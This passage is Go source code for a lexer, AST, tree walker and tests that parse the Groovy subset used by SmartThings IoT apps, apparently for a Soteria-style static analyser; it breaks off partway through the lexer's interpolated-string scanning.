		"||": OROR, "?:": ELVIS, "?.": SAFEDOT, "->": ARROW,
		"++": INCR, "--": DECR, "+=": PLUSASSIGN, "-=": MINUSASSIGN,
	}
	for src, want := range cases {
		toks := lexOK(t, src)
		if toks[0].Kind != want {
			t.Errorf("%q: got %v want %v", src, toks[0].Kind, want)
		}
	}
}

func TestLexComments(t *testing.T) {
	toks := lexOK(t, "a // comment\nb /* block\ncomment */ c")
	var idents []string
	for _, tok := range toks {
		if tok.Kind == IDENT {
			idents = append(idents, tok.Text)
		}
	}
	if strings.Join(idents, " ") != "a b c" {
		t.Errorf("got idents %v", idents)
	}
}

func TestLexNewlinesCollapse(t *testing.T) {
	toks := lexOK(t, "a\n\n\nb")
	want := []TokKind{IDENT, NL, IDENT, EOF}
	got := kinds(toks)
	if len(got) != len(want) {
		t.Fatalf("got %v want %v", got, want)
	}
}

func TestLexSemicolonIsNL(t *testing.T) {
	toks := lexOK(t, "a; b")
	if toks[1].Kind != NL {
		t.Errorf("semicolon should lex as NL, got %v", toks[1].Kind)
	}
}

func TestLexNumbers(t *testing.T) {
	cases := []struct {
		src   string
		val   float64
		isInt bool
	}{
		{"42", 42, true},
		{"3.14", 3.14, false},
		{"0", 0, true},
		{"10L", 10, true},
		{"2.5f", 2.5, false},
	}
	for _, c := range cases {
		toks := lexOK(t, c.src)
		if toks[0].Kind != NUMBER || toks[0].Num != c.val || toks[0].IsInt != c.isInt {
			t.Errorf("%q: got %+v", c.src, toks[0])
		}
	}
}

func TestLexSingleQuoteString(t *testing.T) {
	toks := lexOK(t, `'hello world'`)
	if toks[0].Kind != STRING || toks[0].Text != "hello world" {
		t.Errorf("got %+v", toks[0])
	}
}

func TestLexStringEscapes(t *testing.T) {
	toks := lexOK(t, `'a\nb\t\'c\''`)
	if toks[0].Text != "a\nb\t'c'" {
		t.Errorf("got %q", toks[0].Text)
	}
}

func TestLexGStringPlain(t *testing.T) {
	toks := lexOK(t, `"no interpolation"`)
	tok := toks[0]
	if tok.Kind != GSTRING {
		t.Fatalf("kind = %v", tok.Kind)
	}
	if len(tok.Parts) != 1 || tok.Parts[0].IsExpr || tok.Parts[0].Text != "no interpolation" {
		t.Errorf("parts = %+v", tok.Parts)
	}
}

func TestLexGStringDollarIdent(t *testing.T) {
	toks := lexOK(t, `"$evt.value: $evt, $settings"`)
	tok := toks[0]
	var exprs []string
	for _, p := range tok.Parts {
		if p.IsExpr {
			exprs = append(exprs, p.Expr)
		}
	}
	want := []string{"evt.value", "evt", "settings"}
	if len(exprs) != len(want) {
		t.Fatalf("exprs = %v, want %v", exprs, want)
	}
	for i := range want {
		if exprs[i] != want[i] {
			t.Errorf("expr %d = %q want %q", i, exprs[i], want[i])
		}
	}
}

func TestLexGStringBraced(t *testing.T) {
	toks := lexOK(t, `"event created at: ${evt.date}"`)
	tok := toks[0]
	if len(tok.Parts) != 2 {
		t.Fatalf("parts = %+v", tok.Parts)
	}
	if tok.Parts[0].Text != "event created at: " {
		t.Errorf("text part = %q", tok.Parts[0].Text)
	}
	if !tok.Parts[1].IsExpr || tok.Parts[1].Expr != "evt.date" {
		t.Errorf("expr part = %+v", tok.Parts[1])
	}
}

func TestLexGStringNestedBraces(t *testing.T) {
	toks := lexOK(t, `"${recentEvents?.size() ?: 0} events"`)
	tok := toks[0]
	if !tok.Parts[0].IsExpr || tok.Parts[0].Expr != "recentEvents?.size() ?: 0" {
		t.Errorf("parts = %+v", tok.Parts)
	}
}

func TestLexGStringReflectionCallee(t *testing.T) {
	toks := lexOK(t, `"$name"()`)
	want := []TokKind{GSTRING, LPAREN, RPAREN, EOF}
	got := kinds(toks)
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("got %v want %v", got, want)
		}
	}
}

func TestLexLineContinuation(t *testing.T) {
	toks := lexOK(t, "a \\\n b")
	want := []TokKind{IDENT, IDENT, EOF}
	got := kinds(toks)
	if len(got) != len(want) {
		t.Fatalf("got %v", got)
	}
}

func TestLexPositions(t *testing.T) {
	toks := lexOK(t, "a\n  b")
	if toks[0].Pos.Line != 1 || toks[0].Pos.Col != 1 {
		t.Errorf("a at %v", toks[0].Pos)
	}
	// toks[1] is NL, toks[2] is b
	if toks[2].Pos.Line != 2 || toks[2].Pos.Col != 3 {
		t.Errorf("b at %v", toks[2].Pos)
	}
}

func TestLexUnterminatedString(t *testing.T) {
	lx := NewLexer("'abc")
	lx.Tokens()
	if len(lx.Errors()) == 0 {
		t.Error("expected error for unterminated string")
	}
}

func TestLexUnterminatedBlockComment(t *testing.T) {
	lx := NewLexer("/* abc")
	lx.Tokens()
	if len(lx.Errors()) == 0 {
		t.Error("expected error for unterminated block comment")
	}
}

func TestLexKeywordsVsIdents(t *testing.T) {
	toks := lexOK(t, "if ifx def define return returns")
	want := []TokKind{KwIf, IDENT, KwDef, IDENT, KwReturn, IDENT, EOF}
	got := kinds(toks)
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("got %v want %v", got, want)
		}
	}
}

// Property: the lexer never panics and always terminates with EOF on
// arbitrary input.
func TestLexTotalOnArbitraryInput(t *testing.T) {
	f := func(s string) bool {
		lx := NewLexer(s)
		toks := lx.Tokens()
		return len(toks) > 0 && toks[len(toks)-1].Kind == EOF
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

// Property: lexing a valid identifier always yields exactly that IDENT.
func TestLexIdentRoundTrip(t *testing.T) {
	f := func(n uint8) bool {
		name := "v" + strings.Repeat("x", int(n%20))
		lx := NewLexer(name)
		toks := lx.Tokens()
		return toks[0].Kind == IDENT && toks[0].Text == name
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}
