package groovy

import "strings"

// Node is implemented by every AST node.
type Node interface {
	NodePos() Pos
}

// ---------------------------------------------------------------------------
// Statements

// Stmt is implemented by statement nodes.
type Stmt interface {
	Node
	stmtNode()
}

// File is a parsed SmartThings app source file.
type File struct {
	Name    string        // file or app name (informational)
	Methods []*MethodDecl // top-level method declarations, in order
	Stmts   []Stmt        // top-level non-method statements (definition, preferences, ...)
}

// MethodByName returns the declared method with the given name, or nil.
func (f *File) MethodByName(name string) *MethodDecl {
	for _, m := range f.Methods {
		if m.Name == name {
			return m
		}
	}
	return nil
}

// MethodDecl is a `def name(params) { ... }` declaration.
type MethodDecl struct {
	Name    string
	Params  []string
	Body    *Block
	Private bool
	Pos     Pos
}

func (m *MethodDecl) NodePos() Pos { return m.Pos }

// Block is a brace-delimited statement list.
type Block struct {
	Stmts []Stmt
	Pos   Pos
}

func (b *Block) NodePos() Pos { return b.Pos }
func (b *Block) stmtNode()    {}

// ExprStmt is an expression evaluated for effect (typically a call).
type ExprStmt struct {
	X   Expr
	Pos Pos
}

func (s *ExprStmt) NodePos() Pos { return s.Pos }
func (s *ExprStmt) stmtNode()    {}

// DeclStmt is `def x = e` or a typed local declaration `String x = e`.
type DeclStmt struct {
	Name string
	Type string // optional declared type name ("" when untyped)
	Init Expr   // may be nil
	Pos  Pos
}

func (s *DeclStmt) NodePos() Pos { return s.Pos }
func (s *DeclStmt) stmtNode()    {}

// AssignStmt is `lhs = rhs`, `lhs += rhs` or `lhs -= rhs`.
type AssignStmt struct {
	LHS Expr // Ident, PropExpr or IndexExpr
	Op  TokKind
	RHS Expr
	Pos Pos
}

func (s *AssignStmt) NodePos() Pos { return s.Pos }
func (s *AssignStmt) stmtNode()    {}

// IncDecStmt is `x++` or `x--`.
type IncDecStmt struct {
	X    Expr
	Decr bool
	Pos  Pos
}

func (s *IncDecStmt) NodePos() Pos { return s.Pos }
func (s *IncDecStmt) stmtNode()    {}

// IfStmt is a conditional with optional else branch (possibly another If).
type IfStmt struct {
	Cond Expr
	Then *Block
	Else Stmt // *Block, *IfStmt, or nil
	Pos  Pos
}

func (s *IfStmt) NodePos() Pos { return s.Pos }
func (s *IfStmt) stmtNode()    {}

// WhileStmt is a while loop.
type WhileStmt struct {
	Cond Expr
	Body *Block
	Pos  Pos
}

func (s *WhileStmt) NodePos() Pos { return s.Pos }
func (s *WhileStmt) stmtNode()    {}

// ForInStmt is `for (x in e) { ... }`.
type ForInStmt struct {
	Var  string
	Iter Expr
	Body *Block
	Pos  Pos
}

func (s *ForInStmt) NodePos() Pos { return s.Pos }
func (s *ForInStmt) stmtNode()    {}

// ReturnStmt returns an optional value from a method.
type ReturnStmt struct {
	X   Expr // may be nil
	Pos Pos
}

func (s *ReturnStmt) NodePos() Pos { return s.Pos }
func (s *ReturnStmt) stmtNode()    {}

// BreakStmt breaks the enclosing loop or switch.
type BreakStmt struct{ Pos Pos }

func (s *BreakStmt) NodePos() Pos { return s.Pos }
func (s *BreakStmt) stmtNode()    {}

// ContinueStmt continues the enclosing loop.
type ContinueStmt struct{ Pos Pos }

func (s *ContinueStmt) NodePos() Pos { return s.Pos }
func (s *ContinueStmt) stmtNode()    {}

// SwitchStmt is a Groovy switch with constant cases.
type SwitchStmt struct {
	Tag   Expr
	Cases []SwitchCase
	Pos   Pos
}

// SwitchCase is one case (or default when Value is nil) of a switch.
type SwitchCase struct {
	Value Expr // nil for default
	Body  []Stmt
	Pos   Pos
}

func (s *SwitchStmt) NodePos() Pos { return s.Pos }
func (s *SwitchStmt) stmtNode()    {}

// ---------------------------------------------------------------------------
// Expressions

// Expr is implemented by expression nodes.
type Expr interface {
	Node
	exprNode()
}

// Ident is a bare identifier reference.
type Ident struct {
	Name string
	Pos  Pos
}

func (e *Ident) NodePos() Pos { return e.Pos }
func (e *Ident) exprNode()    {}

// NumberLit is a numeric literal.
type NumberLit struct {
	Value float64
	IsInt bool
	Raw   string
	Pos   Pos
}

func (e *NumberLit) NodePos() Pos { return e.Pos }
func (e *NumberLit) exprNode()    {}

// StringLit is a single-quoted (non-interpolated) string literal.
type StringLit struct {
	Value string
	Pos   Pos
}

func (e *StringLit) NodePos() Pos { return e.Pos }
func (e *StringLit) exprNode()    {}

// GStringLit is a double-quoted string; Parts interleaves literal text
// with parsed interpolation expressions.
type GStringLit struct {
	Raw   string
	Parts []GStringPart
	Pos   Pos
}

// GStringPart is one segment of a GStringLit.
type GStringPart struct {
	Text   string
	Expr   Expr // parsed interpolation expression (nil for text parts)
	IsExpr bool
}

func (e *GStringLit) NodePos() Pos { return e.Pos }
func (e *GStringLit) exprNode()    {}

// StaticText returns the literal text if the GString has no
// interpolation parts, and ok=false otherwise.
func (e *GStringLit) StaticText() (string, bool) {
	var sb strings.Builder
	for _, p := range e.Parts {
		if p.IsExpr {
			return "", false
		}
		sb.WriteString(p.Text)
	}
	return sb.String(), true
}

// StringValue returns the compile-time string value of e if e is a
// plain string literal or a GString with no interpolation parts.
func StringValue(e Expr) (string, bool) {
	switch x := e.(type) {
	case *StringLit:
		return x.Value, true
	case *GStringLit:
		return x.StaticText()
	}
	return "", false
}

// BoolLit is `true` or `false`.
type BoolLit struct {
	Value bool
	Pos   Pos
}

func (e *BoolLit) NodePos() Pos { return e.Pos }
func (e *BoolLit) exprNode()    {}

// NullLit is `null`.
type NullLit struct{ Pos Pos }

func (e *NullLit) NodePos() Pos { return e.Pos }
func (e *NullLit) exprNode()    {}

// ListLit is `[a, b, c]`.
type ListLit struct {
	Elems []Expr
	Pos   Pos
}

func (e *ListLit) NodePos() Pos { return e.Pos }
func (e *ListLit) exprNode()    {}

// MapEntry is one `key: value` pair of a map literal or named argument.
type MapEntry struct {
	Key   string // identifier or string key
	Value Expr
}

// MapLit is `[k: v, ...]` (or the empty map `[:]`).
type MapLit struct {
	Entries []MapEntry
	Pos     Pos
}

func (e *MapLit) NodePos() Pos { return e.Pos }
func (e *MapLit) exprNode()    {}

// PropExpr is property access: `recv.name` (or `recv?.name`).
type PropExpr struct {
	Recv Expr
	Name string
	Safe bool
	Pos  Pos
}

func (e *PropExpr) NodePos() Pos { return e.Pos }
func (e *PropExpr) exprNode()    {}

// IndexExpr is `recv[index]`.
type IndexExpr struct {
	Recv  Expr
	Index Expr
	Pos   Pos
}

func (e *IndexExpr) NodePos() Pos { return e.Pos }
func (e *IndexExpr) exprNode()    {}

// CallExpr is a method or function call. For a free call (`foo(x)`),
// Recv is nil. For a dynamic (reflection) call — `"$name"()` — Dynamic
// holds the GString callee and Name is empty.
type CallExpr struct {
	Recv      Expr   // receiver, or nil for free-standing calls
	Name      string // method name ("" for reflection calls)
	Dynamic   Expr   // GString callee for call-by-reflection
	Safe      bool   // receiver accessed with ?.
	Args      []Expr
	NamedArgs []MapEntry  // Groovy named arguments (title: "...", ...)
	Closure   *ClosureLit // trailing closure argument, if any
	Command   bool        // parsed from parenthesis-free command syntax
	Pos       Pos
}

func (e *CallExpr) NodePos() Pos { return e.Pos }
func (e *CallExpr) exprNode()    {}

// ClosureLit is `{ params -> stmts }`; Params is empty for the implicit
// `it` form.
type ClosureLit struct {
	Params []string
	Body   *Block
	Pos    Pos
}

func (e *ClosureLit) NodePos() Pos { return e.Pos }
func (e *ClosureLit) exprNode()    {}

// BinaryExpr is a binary operation.
type BinaryExpr struct {
	Op   TokKind
	L, R Expr
	Pos  Pos
}

func (e *BinaryExpr) NodePos() Pos { return e.Pos }
func (e *BinaryExpr) exprNode()    {}

// UnaryExpr is `!x` or `-x`.
type UnaryExpr struct {
	Op  TokKind
	X   Expr
	Pos Pos
}

func (e *UnaryExpr) NodePos() Pos { return e.Pos }
func (e *UnaryExpr) exprNode()    {}

// TernaryExpr is `cond ? a : b`.
type TernaryExpr struct {
	Cond, Then, Else Expr
	Pos              Pos
}

func (e *TernaryExpr) NodePos() Pos { return e.Pos }
func (e *TernaryExpr) exprNode()    {}

// ElvisExpr is `a ?: b`.
type ElvisExpr struct {
	Value, Default Expr
	Pos            Pos
}

func (e *ElvisExpr) NodePos() Pos { return e.Pos }
func (e *ElvisExpr) exprNode()    {}

// NewExpr is `new Type(args)`.
type NewExpr struct {
	Type string
	Args []Expr
	Pos  Pos
}

func (e *NewExpr) NodePos() Pos { return e.Pos }
func (e *NewExpr) exprNode()    {}
