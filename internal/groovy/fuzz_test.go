package groovy

import "testing"

// FuzzParse drives the lexer and parser with arbitrary input; the
// invariants are totality (no panic) and a File result even on
// malformed sources. Run with `go test -fuzz=FuzzParse ./internal/groovy`.
func FuzzParse(f *testing.F) {
	seeds := []string{
		smokeAlarmSrc,
		waterLeakSrc,
		thermostatSrc,
		`def h(evt) { if (evt.value == "on") { sw.on() } }`,
		`preferences { section("s") { input "x", "capability.switch" } }`,
		`"$a${b.c()}" ?: [k: 1]`,
		"def h() { while (x < 10) { x++ } }",
		"mappings { path(\"/x\") { action: [GET: \"g\"] } }",
		"{ a -> a }",
		"/* unterminated",
		"\"unterminated $",
		"def h() { switch (x) { case 1: break; default: y() } }",
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		file, _ := Parse("fuzz", src)
		if file == nil {
			t.Fatal("Parse returned nil File")
		}
		// The AST must be walkable without panicking.
		WalkFile(file, func(Node) bool { return true })
	})
}
