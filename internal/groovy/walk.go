package groovy

// Walk traverses the AST rooted at n in depth-first order, calling fn
// for every node. If fn returns false for a node, that node's children
// are not visited.
func Walk(n Node, fn func(Node) bool) {
	if n == nil || !fn(n) {
		return
	}
	switch x := n.(type) {
	case *MethodDecl:
		Walk(x.Body, fn)
	case *Block:
		for _, s := range x.Stmts {
			Walk(s, fn)
		}
	case *ExprStmt:
		Walk(x.X, fn)
	case *DeclStmt:
		if x.Init != nil {
			Walk(x.Init, fn)
		}
	case *AssignStmt:
		Walk(x.LHS, fn)
		Walk(x.RHS, fn)
	case *IncDecStmt:
		Walk(x.X, fn)
	case *IfStmt:
		Walk(x.Cond, fn)
		Walk(x.Then, fn)
		if x.Else != nil {
			Walk(x.Else, fn)
		}
	case *WhileStmt:
		Walk(x.Cond, fn)
		Walk(x.Body, fn)
	case *ForInStmt:
		Walk(x.Iter, fn)
		Walk(x.Body, fn)
	case *ReturnStmt:
		if x.X != nil {
			Walk(x.X, fn)
		}
	case *SwitchStmt:
		Walk(x.Tag, fn)
		for _, c := range x.Cases {
			if c.Value != nil {
				Walk(c.Value, fn)
			}
			for _, s := range c.Body {
				Walk(s, fn)
			}
		}
	case *GStringLit:
		for _, p := range x.Parts {
			if p.IsExpr && p.Expr != nil {
				Walk(p.Expr, fn)
			}
		}
	case *ListLit:
		for _, el := range x.Elems {
			Walk(el, fn)
		}
	case *MapLit:
		for _, en := range x.Entries {
			Walk(en.Value, fn)
		}
	case *PropExpr:
		Walk(x.Recv, fn)
	case *IndexExpr:
		Walk(x.Recv, fn)
		Walk(x.Index, fn)
	case *CallExpr:
		if x.Recv != nil {
			Walk(x.Recv, fn)
		}
		if x.Dynamic != nil {
			Walk(x.Dynamic, fn)
		}
		for _, a := range x.Args {
			Walk(a, fn)
		}
		for _, na := range x.NamedArgs {
			Walk(na.Value, fn)
		}
		if x.Closure != nil {
			Walk(x.Closure, fn)
		}
	case *ClosureLit:
		Walk(x.Body, fn)
	case *BinaryExpr:
		Walk(x.L, fn)
		Walk(x.R, fn)
	case *UnaryExpr:
		Walk(x.X, fn)
	case *TernaryExpr:
		Walk(x.Cond, fn)
		Walk(x.Then, fn)
		Walk(x.Else, fn)
	case *ElvisExpr:
		Walk(x.Value, fn)
		Walk(x.Default, fn)
	case *NewExpr:
		for _, a := range x.Args {
			Walk(a, fn)
		}
	}
}

// WalkFile traverses every method body and top-level statement of f.
func WalkFile(f *File, fn func(Node) bool) {
	for _, m := range f.Methods {
		Walk(m, fn)
	}
	for _, s := range f.Stmts {
		Walk(s, fn)
	}
}
