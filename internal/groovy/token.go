// Package groovy implements a lexer and parser for the subset of the
// Groovy language used by SmartThings IoT apps.
//
// The subset covers everything Soteria's analysis consumes: the
// definition/preferences/input metadata blocks, event subscriptions,
// method declarations, closures, conditionals, GString interpolation,
// the elvis and ternary operators, persistent state-object fields, and
// Groovy's parenthesis-free "command" call syntax. The parser produces
// the AST defined in ast.go; Soteria's IR extraction (internal/ir)
// consumes that AST the same way the paper's Groovy compiler hook
// consumed the real Groovy AST.
package groovy

import "fmt"

// TokKind identifies the lexical class of a token.
type TokKind int

// Token kinds produced by the Lexer.
const (
	EOF TokKind = iota
	NL          // newline or semicolon: statement separator
	IDENT
	NUMBER
	STRING  // single-quoted string (no interpolation)
	GSTRING // double-quoted string (may carry interpolation parts)

	// Punctuation.
	LPAREN   // (
	RPAREN   // )
	LBRACE   // {
	RBRACE   // }
	LBRACKET // [
	RBRACKET // ]
	COMMA    // ,
	DOT      // .
	SAFEDOT  // ?.
	COLON    // :
	ARROW    // ->
	QUESTION // ?
	ELVIS    // ?:

	// Operators.
	ASSIGN     // =
	PLUSASSIGN // +=
	MINUSASSIGN
	EQ  // ==
	NEQ // !=
	LT
	GT
	LEQ
	GEQ
	ANDAND // &&
	OROR   // ||
	NOT    // !
	PLUS
	MINUS
	STAR
	SLASH
	PERCENT
	INCR // ++
	DECR // --

	// Keywords.
	KwDef
	KwIf
	KwElse
	KwReturn
	KwTrue
	KwFalse
	KwNull
	KwWhile
	KwFor
	KwIn
	KwNew
	KwPrivate
	KwPublic
	KwSwitch
	KwCase
	KwDefault
	KwBreak
	KwContinue
)

var kindNames = map[TokKind]string{
	EOF: "EOF", NL: "newline", IDENT: "identifier", NUMBER: "number",
	STRING: "string", GSTRING: "gstring",
	LPAREN: "'('", RPAREN: "')'", LBRACE: "'{'", RBRACE: "'}'",
	LBRACKET: "'['", RBRACKET: "']'", COMMA: "','", DOT: "'.'",
	SAFEDOT: "'?.'", COLON: "':'", ARROW: "'->'", QUESTION: "'?'",
	ELVIS: "'?:'", ASSIGN: "'='", PLUSASSIGN: "'+='", MINUSASSIGN: "'-='",
	EQ: "'=='", NEQ: "'!='", LT: "'<'", GT: "'>'", LEQ: "'<='",
	GEQ: "'>='", ANDAND: "'&&'", OROR: "'||'", NOT: "'!'", PLUS: "'+'",
	MINUS: "'-'", STAR: "'*'", SLASH: "'/'", PERCENT: "'%'",
	INCR: "'++'", DECR: "'--'",
	KwDef: "'def'", KwIf: "'if'", KwElse: "'else'", KwReturn: "'return'",
	KwTrue: "'true'", KwFalse: "'false'", KwNull: "'null'",
	KwWhile: "'while'", KwFor: "'for'", KwIn: "'in'", KwNew: "'new'",
	KwPrivate: "'private'", KwPublic: "'public'", KwSwitch: "'switch'",
	KwCase: "'case'", KwDefault: "'default'", KwBreak: "'break'",
	KwContinue: "'continue'",
}

func (k TokKind) String() string {
	if s, ok := kindNames[k]; ok {
		return s
	}
	return fmt.Sprintf("TokKind(%d)", int(k))
}

var keywords = map[string]TokKind{
	"def": KwDef, "if": KwIf, "else": KwElse, "return": KwReturn,
	"true": KwTrue, "false": KwFalse, "null": KwNull, "while": KwWhile,
	"for": KwFor, "in": KwIn, "new": KwNew, "private": KwPrivate,
	"public": KwPublic, "switch": KwSwitch, "case": KwCase,
	"default": KwDefault, "break": KwBreak, "continue": KwContinue,
}

// Pos is a source position (1-based line and column).
type Pos struct {
	Line int
	Col  int
}

func (p Pos) String() string { return fmt.Sprintf("%d:%d", p.Line, p.Col) }

// GPart is one segment of an interpolated (double-quoted) string: either
// literal text or an embedded expression source (the text between ${ and }
// or following a bare $).
type GPart struct {
	Text   string // literal text; empty if this part is an expression
	Expr   string // raw expression source; empty if this part is text
	IsExpr bool
}

// Token is a single lexeme with its source position.
type Token struct {
	Kind  TokKind
	Text  string  // raw text (identifier name, operator, string content)
	Num   float64 // value when Kind == NUMBER
	IsInt bool    // NUMBER had no fractional part
	Parts []GPart // interpolation parts when Kind == GSTRING
	Pos   Pos
}

func (t Token) String() string {
	switch t.Kind {
	case IDENT, NUMBER, STRING, GSTRING:
		return fmt.Sprintf("%s(%q)", t.Kind, t.Text)
	default:
		return t.Kind.String()
	}
}
