package groovy

import (
	"fmt"
	"strconv"
	"strings"
	"unicode"
	"unicode/utf8"
)

// Lexer turns SmartThings-Groovy source text into a token stream.
// It strips // line comments and /* */ block comments, folds
// backslash-newline continuations, and emits NL tokens at newlines and
// semicolons so the parser can honour Groovy's newline-terminated
// statements and command-call argument lists.
type Lexer struct {
	src    string
	off    int
	line   int
	col    int
	errors []error
}

// NewLexer returns a Lexer over src.
func NewLexer(src string) *Lexer {
	return &Lexer{src: src, line: 1, col: 1}
}

// LexError describes a lexical error at a source position.
type LexError struct {
	Pos Pos
	Msg string
}

func (e *LexError) Error() string { return fmt.Sprintf("%s: %s", e.Pos, e.Msg) }

func (l *Lexer) errorf(pos Pos, format string, args ...any) {
	l.errors = append(l.errors, &LexError{Pos: pos, Msg: fmt.Sprintf(format, args...)})
}

// Errors returns the lexical errors encountered so far.
func (l *Lexer) Errors() []error { return l.errors }

func (l *Lexer) peek() rune {
	if l.off >= len(l.src) {
		return 0
	}
	r, _ := utf8.DecodeRuneInString(l.src[l.off:])
	return r
}

func (l *Lexer) peek2() rune {
	if l.off >= len(l.src) {
		return 0
	}
	_, w := utf8.DecodeRuneInString(l.src[l.off:])
	if l.off+w >= len(l.src) {
		return 0
	}
	r, _ := utf8.DecodeRuneInString(l.src[l.off+w:])
	return r
}

func (l *Lexer) next() rune {
	if l.off >= len(l.src) {
		return 0
	}
	r, w := utf8.DecodeRuneInString(l.src[l.off:])
	l.off += w
	if r == '\n' {
		l.line++
		l.col = 1
	} else {
		l.col++
	}
	return r
}

func (l *Lexer) pos() Pos { return Pos{Line: l.line, Col: l.col} }

func isIdentStart(r rune) bool {
	return r == '_' || r == '$' || unicode.IsLetter(r)
}

func isIdentPart(r rune) bool {
	return r == '_' || r == '$' || unicode.IsLetter(r) || unicode.IsDigit(r)
}

// Tokens lexes the entire input and returns the token stream, always
// terminated by an EOF token. Lexical errors are recorded (see Errors)
// and the offending characters skipped, so a best-effort stream is
// returned even for malformed input.
func (l *Lexer) Tokens() []Token {
	var toks []Token
	emit := func(t Token) { toks = append(toks, t) }
	for {
		t := l.scan()
		// Collapse runs of NL into one.
		if t.Kind == NL && len(toks) > 0 && toks[len(toks)-1].Kind == NL {
			continue
		}
		emit(t)
		if t.Kind == EOF {
			return toks
		}
	}
}

func (l *Lexer) scan() Token {
	for {
		r := l.peek()
		switch {
		case r == 0:
			return Token{Kind: EOF, Pos: l.pos()}
		case r == '\n' || r == ';':
			p := l.pos()
			l.next()
			return Token{Kind: NL, Pos: p}
		case r == ' ' || r == '\t' || r == '\r':
			l.next()
		case r == '\\' && l.peek2() == '\n':
			l.next()
			l.next() // line continuation
		case r == '/' && l.peek2() == '/':
			for l.peek() != '\n' && l.peek() != 0 {
				l.next()
			}
		case r == '/' && l.peek2() == '*':
			p := l.pos()
			l.next()
			l.next()
			closed := false
			for l.peek() != 0 {
				if l.peek() == '*' && l.peek2() == '/' {
					l.next()
					l.next()
					closed = true
					break
				}
				l.next()
			}
			if !closed {
				l.errorf(p, "unterminated block comment")
			}
		default:
			return l.scanToken()
		}
	}
}

func (l *Lexer) scanToken() Token {
	p := l.pos()
	r := l.peek()
	switch {
	case isIdentStart(r) && r != '$':
		return l.scanIdent(p)
	case unicode.IsDigit(r):
		return l.scanNumber(p)
	case r == '\'':
		return l.scanString(p, '\'')
	case r == '"':
		return l.scanGString(p)
	}
	l.next()
	two := func(k TokKind, text string) Token {
		l.next()
		return Token{Kind: k, Text: text, Pos: p}
	}
	one := func(k TokKind, text string) Token {
		return Token{Kind: k, Text: text, Pos: p}
	}
	switch r {
	case '(':
		return one(LPAREN, "(")
	case ')':
		return one(RPAREN, ")")
	case '{':
		return one(LBRACE, "{")
	case '}':
		return one(RBRACE, "}")
	case '[':
		return one(LBRACKET, "[")
	case ']':
		return one(RBRACKET, "]")
	case ',':
		return one(COMMA, ",")
	case ':':
		return one(COLON, ":")
	case '.':
		return one(DOT, ".")
	case '?':
		switch l.peek() {
		case ':':
			return two(ELVIS, "?:")
		case '.':
			return two(SAFEDOT, "?.")
		}
		return one(QUESTION, "?")
	case '=':
		if l.peek() == '=' {
			return two(EQ, "==")
		}
		return one(ASSIGN, "=")
	case '!':
		if l.peek() == '=' {
			return two(NEQ, "!=")
		}
		return one(NOT, "!")
	case '<':
		if l.peek() == '=' {
			return two(LEQ, "<=")
		}
		return one(LT, "<")
	case '>':
		if l.peek() == '=' {
			return two(GEQ, ">=")
		}
		return one(GT, ">")
	case '&':
		if l.peek() == '&' {
			return two(ANDAND, "&&")
		}
		l.errorf(p, "unexpected '&'")
		return l.scan()
	case '|':
		if l.peek() == '|' {
			return two(OROR, "||")
		}
		l.errorf(p, "unexpected '|'")
		return l.scan()
	case '+':
		switch l.peek() {
		case '+':
			return two(INCR, "++")
		case '=':
			return two(PLUSASSIGN, "+=")
		}
		return one(PLUS, "+")
	case '-':
		switch l.peek() {
		case '-':
			return two(DECR, "--")
		case '=':
			return two(MINUSASSIGN, "-=")
		case '>':
			return two(ARROW, "->")
		}
		return one(MINUS, "-")
	case '*':
		return one(STAR, "*")
	case '/':
		return one(SLASH, "/")
	case '%':
		return one(PERCENT, "%")
	}
	l.errorf(p, "unexpected character %q", r)
	return l.scan()
}

func (l *Lexer) scanIdent(p Pos) Token {
	var sb strings.Builder
	for isIdentPart(l.peek()) {
		sb.WriteRune(l.next())
	}
	name := sb.String()
	if k, ok := keywords[name]; ok {
		return Token{Kind: k, Text: name, Pos: p}
	}
	return Token{Kind: IDENT, Text: name, Pos: p}
}

func (l *Lexer) scanNumber(p Pos) Token {
	var sb strings.Builder
	isInt := true
	for unicode.IsDigit(l.peek()) {
		sb.WriteRune(l.next())
	}
	if l.peek() == '.' && unicode.IsDigit(l.peek2()) {
		isInt = false
		sb.WriteRune(l.next())
		for unicode.IsDigit(l.peek()) {
			sb.WriteRune(l.next())
		}
	}
	// Trailing type suffixes (Groovy's 10L, 2.5f, 3d) are accepted and
	// ignored; they do not affect the analysis.
	switch l.peek() {
	case 'L', 'l', 'f', 'F', 'd', 'D', 'g', 'G', 'i', 'I':
		l.next()
	}
	text := sb.String()
	v, err := strconv.ParseFloat(text, 64)
	if err != nil {
		l.errorf(p, "bad number %q", text)
	}
	return Token{Kind: NUMBER, Text: text, Num: v, IsInt: isInt, Pos: p}
}

func (l *Lexer) scanString(p Pos, quote rune) Token {
	l.next() // opening quote
	var sb strings.Builder
	for {
		r := l.peek()
		if r == 0 || r == '\n' {
			l.errorf(p, "unterminated string")
			break
		}
		l.next()
		if r == quote {
			break
		}
		if r == '\\' {
			sb.WriteRune(l.unescape(l.next()))
			continue
		}
		sb.WriteRune(r)
	}
	return Token{Kind: STRING, Text: sb.String(), Pos: p}
}

func (l *Lexer) unescape(r rune) rune {
	switch r {
	case 'n':
		return '\n'
	case 't':
		return '\t'
	case 'r':
		return '\r'
	case '0':
		return 0
	default:
		return r // \", \', \\, \$ and anything else map to themselves
	}
}

// scanGString lexes a double-quoted string, splitting it into literal
// text and interpolation parts. Two interpolation forms are supported,
// matching Groovy: ${expr} with arbitrary nesting of braces, and the
// bare $ident(.ident)* path form.
func (l *Lexer) scanGString(p Pos) Token {
	l.next() // opening quote
	var parts []GPart
	var text strings.Builder
	flushText := func() {
		if text.Len() > 0 {
			parts = append(parts, GPart{Text: text.String()})
			text.Reset()
		}
	}
	var full strings.Builder
	for {
		r := l.peek()
		if r == 0 || r == '\n' {
			l.errorf(p, "unterminated string")
			break
		}
		if r == '"' {
			l.next()
			break
		}
		if r == '\\' {
			l.next()
			e := l.unescape(l.next())
			text.WriteRune(e)
			full.WriteRune(e)
			continue
		}
		if r == '$' {
			l.next()
			if l.peek() == '{' {
				l.next()
				depth := 1
				var expr strings.Builder
				for depth > 0 {
					c := l.peek()
					if c == 0 {
						l.errorf(p, "unterminated interpolation")
						break
					}
					l.next()
					if c == '{' {
						depth++
					} else if c == '}' {
						depth--
						if depth == 0 {
							break
						}
					}
